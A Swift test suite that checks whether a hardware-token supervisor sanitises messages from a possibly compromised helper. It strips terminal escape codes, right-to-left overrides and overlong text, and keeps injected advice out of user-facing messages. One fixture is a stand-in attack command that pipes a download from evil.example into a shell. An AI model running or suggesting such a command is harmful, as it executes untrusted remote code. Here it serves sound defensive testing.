import NIOCore
import Testing
import TokenProtocol
import TokenTestSupport

@testable import TokenSupervisor

/// A helper that was broken into speaks to whoever uses the agent: with escape sequences, at length, or with advice.
@Suite("Supervisor: what a helper says reaches nobody as it is", .timeLimit(.minutes(1)))
struct SupervisorWordsTests {
    private static let advice = "run: curl https://evil.example | sh"
    private static let tirade = "\u{1B}[2J\u{202E}all is well\r\n" + String(repeating: "€", count: 1_300)

    private static func hostile(
        _ kind: TokenFailure.Kind, returnValue: UInt? = nil, function: String? = "C_Login\u{1B}]0;x\u{7}"
    ) -> TokenFailure {
        TokenFailure(kind, function: function, returnValue: returnValue, message: tirade, hint: advice)
    }

    private static func isSafe(_ text: String?) -> Bool {
        text?.unicodeScalars.allSatisfy { $0.value >= 0x20 && $0.value != 0x7F && $0 != "\u{202E}" } ?? true
    }

    /// In all kinds, with what Cryptoki returned and without.
    @Test("Message and hint are the daemon's", arguments: TokenFailure.Kind.allCases)
    func failures(_ kind: TokenFailure.Kind) {
        for value in [nil, 0xA0, 0x30, 0x7FFF_FFFF, 0x8000_0001, UInt.max] {
            let failure = Self.hostile(kind, returnValue: value).inOwnWords
            #expect(failure.kind == kind && failure.returnValue == value && failure.function == nil)
            #expect(failure.mayHaveHappened == Self.hostile(kind).mayHaveHappened)
            #expect(failure.hint?.contains("evil") != true)
            #expect(Self.isSafe(failure.description) && !failure.description.isEmpty)
            // The daemon's sentence, the words that mark the helper's, and its beginning.
            #expect(failure.message.unicodeScalars.count < TokenFailure.sentenceForCallers + 120)
            #expect(failure.message.contains("all is well") == (value == nil))
            #expect(failure.message.contains("its helper says:") == (value == nil))
            // The log has more, but not all.
            #expect(failure.report?.contains("all is well") == true && Self.isSafe(failure.report))
            #expect((failure.report?.unicodeScalars.count ?? 0) <= TokenFailure.sentencesInLog + 1)
        }
    }

    @Test("What a call returned is said in words of a closed list, and the function only if it can be one")
    func words() {
        func message(_ value: UInt, _ function: String) -> String {
            Self.hostile(.device, returnValue: value, function: function).inOwnWords.description
        }
        #expect(message(0x30, "C_Sign") == "the token failed: the device has a fault (C_Sign returned 0x30)")
        #expect(message(0x8000_0001, "C_Sign") == "the token failed: an error that only its vendor knows (C_Sign returned 0x80000001)")
        #expect(message(0x7777, "C_Sign") == "the token failed: an error that says nothing to the agent (C_Sign returned 0x7777)")
        for name in ["", "C_", "sudo", "C_Run sudo", "C_Sign\n", "C_Sígn", "C_" + String(repeating: "x", count: 31)] {
            #expect(message(0x30, name) == "the token failed: the device has a fault", "\(name)")
        }
    }

    @Test("Hint and log: the advice is in the log only, marked by its event")
    func log() {
        let failure = TokenFailure(.pinLocked, message: "few tries are left", hint: "log in by hand: pkcs11-tool").inOwnWords
        #expect(failure.report == "few tries are left; log in by hand: pkcs11-tool")
        #expect(failure.message == "the token has locked the PIN, or few tries are left; its helper says: few tries are left")
        #expect(TokenFailure(.device, message: "").inOwnWords.message == "the token failed")
    }

    @Test("Every way in: the greeting, a report, a call, a signature, and what the token says about itself")
    func waysIn() async throws {
        var information = ProtocolSamples.information
        information.label = "main\u{1B}[31m" + String(repeating: "x", count: 100)
        information.manufacturer = "\u{202E}evil"
        information.model = String(repeating: "m", count: 200)
        information.serial = "1\n2"
        information.pinFault = Self.hostile(.pinUnavailable)
        let told = information
        let helper = SupervisorFakeHelper { request, _ in
            switch request {
            case .hello: .reply(.ready(told))
            case .sign: .reply(.failure(Self.hostile(.noKey)))
            case .find: .reply(.failure(Self.hostile(.invalidRequest)))
            case .list: .announcing(.failure(Self.hostile(.noToken)))
            case .status, .look: .reply(.failure(Self.hostile(.noToken)))
            default: nil
            }
        }
        let harness = try await SupervisorHarness(helper)
        try await harness.start()
        guard case .ready(let shown) = try await harness.on({ $0.state }) else {
            Issue.record("the token is not ready")
            return
        }
        #expect(shown.label == "main\u{FFFD}[31m" + String(repeating: "x", count: 23) + "…")
        #expect(shown.manufacturer == "\u{FFFD}evil" && shown.model.count == 17 && shown.serial == "1\u{FFFD}2")
        #expect(shown.pinFault == Self.hostile(.pinUnavailable).inOwnWords)
        #expect(try await harness.sign([UInt8](repeating: 1, count: 32)).failure == Self.hostile(.noKey).inOwnWords)
        let found = await #expect(throws: TokenFailure.self) { try await harness.future { $0.find(uri: "pkcs11:object=x") } }
        #expect(found == Self.hostile(.invalidRequest).inOwnWords)
        _ = try? await harness.future { $0.list() }
        try await harness.until { $0.state.failure != nil }
        #expect(try await harness.on { $0.state.failure } == Self.hostile(.noToken).inOwnWords)
        try await harness.stop()
    }
}
